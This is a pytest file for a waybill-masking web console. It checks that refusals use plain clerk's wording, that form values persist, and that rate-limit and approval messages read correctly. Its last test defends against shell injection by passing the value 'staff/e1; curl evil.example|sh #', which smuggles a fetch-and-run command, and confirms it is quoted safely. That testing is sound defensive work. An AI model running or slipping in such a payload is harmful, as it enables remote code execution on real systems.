"""Refusals in a clerk's words: no JSON Pointer, no member's name and no address of the API is on a page."""

from __future__ import annotations

import itertools
import re
import shlex
from collections.abc import Iterator
from dataclasses import replace
from html import unescape
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from werkzeug.test import TestResponse

from masking_console.guards import CHOICES_COOKIE
from masking_console.refusals import FIELDS, field_errors, said
from masking_console.service import Refusal
from masking_console.settings import Settings
from masking_service.runtime import settings as service_settings
from tests.console.conftest import Work, desk, serve
from tests.every import every
from tests.service.people.policies import FILE
from tests.web.api import NUMBER, record, started

FOR_DEVELOPERS = re.compile(
    r"/v1\b|GET /|`|query:|path:"
    r"|/(?:case|waybills|officer|reason|phone|last4|site|principal|why|note)\b(?:/\d+)?\s*[:：]"
    r"|\b(?:retry_at|expires_in|waybill_no|opened_by|approve_above|pointer|JSON|members?)\b|成员|指针"
)
"""What the service says to those who write clients."""
GOOD = {"case": "D-2", "purpose": "dispute", "waybills": NUMBER, "reason": "Other", "hours": "24"}
REFUSED: dict[str, tuple[str, str, dict[str, str], str]] = {
    "no number of a case": ("service-desk", "/cases/new", GOOD | {"case": "not a number!"}, "a letter or digit first"),
    "a number that is taken": ("service-desk", "/cases/new", GOOD | {"case": "D-1"}, "This number was used before"),
    "no purpose": ("service-desk", "/cases/new", GOOD | {"purpose": "gossip"}, "may use this purpose"),
    "no waybill number": (
        "service-desk",
        "/cases/new",
        GOOD | {"waybills": f"{NUMBER}\nabc"},
        "are left out. Correct them",
    ),
    "no waybills": ("service-desk", "/cases/new", GOOD | {"waybills": ""}, "No line has a waybill number"),
    "too many waybills": (
        "service-desk",
        "/cases/new",
        GOOD | {"waybills": " ".join(f"SF{n:010}" for n in range(201))},
        "none, or too many at once",
    ),
    "no officer": ("service-desk", "/cases/new", GOOD | {"officer": "Wang"}, "such as staff/e5021"),
    "a long reason": ("service-desk", "/cases/new", GOOD | {"details": "x" * 600}, "1 to 500 characters"),
    "no phone": ("service-desk", "/find", {"phone": "12"}, "7 to 15 digits"),
    "no four digits": ("service-desk", "/find", {"last4": "12", "site": "021001"}, "Four digits"),
    "no site": ("service-desk", "/find", {"last4": "1234", "site": "not a site"}, "A site's code"),
    "half a search": ("service-desk", "/find", {"last4": "1234"}, "A site's code"),
    "a long note": ("supervisor", "/cases/D-1/close", {"note": "x" * 600}, "At most 500 characters"),
    "no decoy": ("privacy-officer", "/decoys", {"waybills": f"{NUMBER} abc", "kind": "phantom"}, "Line 2 is not a"),
    "no filter": ("auditor", "/audit?waybill=x", {}, "A waybill number is 6 to 40"),
    "no person": ("auditor", "/audit?principal=x%20y", {}, "A person is named by their id"),
    "no action": ("auditor", "/audit?action=gossip", {}, "Choose an action of the list"),
    "no outcome": ("auditor", "/audit?outcome=gossip", {}, "Choose an outcome of the list"),
    "no place in the log": ("auditor", "/audit?after=x", {}, "Begin at the first one"),
}


@pytest.fixture
def searching(development: service_settings.Settings, settings: Settings, tmp_path: Path) -> Iterator[Work]:
    """A desk over a service with search, and a case."""
    policy = tmp_path / "policy.yaml"
    policy.write_text(f"{FILE.read_text('utf-8')}\nsearch: {{phone: true, last4: true}}\n", "utf-8")
    (development.state_dir / "checkpoint.json").unlink(missing_ok=True)
    api = started(replace(development, policy=policy))
    api.tokenize(record())
    api.open_case("D-1", NUMBER)
    for served in serve(api.app):
        yield Work(api, desk(replace(settings, service_url=served.url)))


def sent(browser: FlaskClient, path: str, form: dict[str, str]) -> TestResponse:
    return browser.post(path, data=form) if form else browser.get(path)


def words(answered: TestResponse) -> str:
    """What a page says, without its markup and what was typed into it."""
    main = answered.text.partition("<main")[2].partition(">")[2]
    return unescape(re.sub(r"(?s)<textarea.*?</textarea>|<option.*?</option>|<[^>]*>", " ", main))


@every("refused", REFUSED)
def test_a_refusal_is_said_in_the_words_of_a_clerk(searching: Work, refused: str) -> None:
    role, path, form, expected = REFUSED[refused]
    browser = searching.browser(role)

    answered = sent(browser, path, form)
    browser.set_cookie(CHOICES_COOKIE, "zh.30")
    chinese = sent(browser, path, form)

    assert answered.status_code >= 400
    assert words(answered).count(expected) == 1
    for page in (answered, chinese):
        assert FOR_DEVELOPERS.findall(words(page)) == []


def test_what_was_entered_stays_beside_a_filter_that_is_not_right(searching: Work) -> None:
    answered = searching.browser("auditor").get(
        "/audit?principal=staff/e5021&action=view&outcome=frozen&case=D-1&waybill=x&from=2026-11-30T08:00&to=soon"
    )

    entered = re.findall(r'<input id="(\w+)" name="\1" type="[\w-]+" value="([^"]*)"', answered.text)
    chosen = re.findall(r'<option value="([\w-]+)" selected>', answered.text)
    assert (answered.status_code, entered, chosen) == (
        422,
        [
            ("principal", "staff/e5021"),
            ("case", "D-1"),
            ("waybill", "x"),
            ("from", "2026-11-30T08:00"),
            ("to", "soon"),
        ],
        ["view", "frozen"],
    )


def test_a_spent_budget_is_said_with_the_time_at_which_it_frees(searching: Work) -> None:
    browser = searching.browser("service-desk")
    for _ in range(10):
        browser.post("/find", data={"phone": "13812345678"})

    told = words(browser.post("/find", data={"phone": "13812345678"}))

    assert re.search(r"Your budget for this is spent for now\. .* Available again at\s+\d{4}-\d\d-\d\d \d\d:\d\d", told)
    assert FOR_DEVELOPERS.findall(told) == []


@pytest.mark.parametrize(("waybills", "counted"), [(1, "1 waybill "), (12, "12 waybills ")], ids=["one", "several"])
def test_approvals_count_in_words_that_agree(searching: Work, waybills: int, counted: str) -> None:
    numbers = [f"SF{n:010}" for n in range(waybills)]
    purpose = "dispute" if waybills > 10 else "regulator"
    searching.api.open_case("D-7", *numbers, purpose=purpose)

    page = re.sub(r"\s+", " ", words(searching.browser("supervisor").get("/approvals")))

    assert f" {counted}" in page
    assert "asked for 1 case with 1 waybill in the last 7 days" in page


@every(("member", "place"), itertools.product(FIELDS, ("/{}", "query:{}")))
def test_each_field_has_words_of_its_own(app: Flask, member: str, place: str) -> None:
    refusal = Refusal(422, "invalid-request", errors=[{"pointer": place.format(member), "code": "invalid-value"}])
    with app.test_request_context():
        assert field_errors(refusal) == {member: str(FIELDS[member])}


def test_a_place_without_a_field_adds_nothing(app: Flask) -> None:
    refusal = Refusal(422, "invalid-request", title="The request is not valid", detail="/x: this member is required.")
    with app.test_request_context():
        assert field_errors(replace(refusal, errors=[{"pointer": "/x", "code": "missing"}])) == {}
        assert said(replace(refusal, code="other", errors=[{"pointer": "/x", "code": "missing"}])) == refusal.title


def test_a_command_to_copy_has_the_person_as_one_word_of_a_shell(searching: Work) -> None:
    person = "staff/e1; curl evil.example|sh #"

    page = searching.browser("auditor").get("/audit", query_string={"principal": person}).text

    (line,) = re.findall(r"waybill-masking audit incident .+", unescape(page))
    assert shlex.split(line)[:5] == ["waybill-masking", "audit", "incident", "--principal", person]
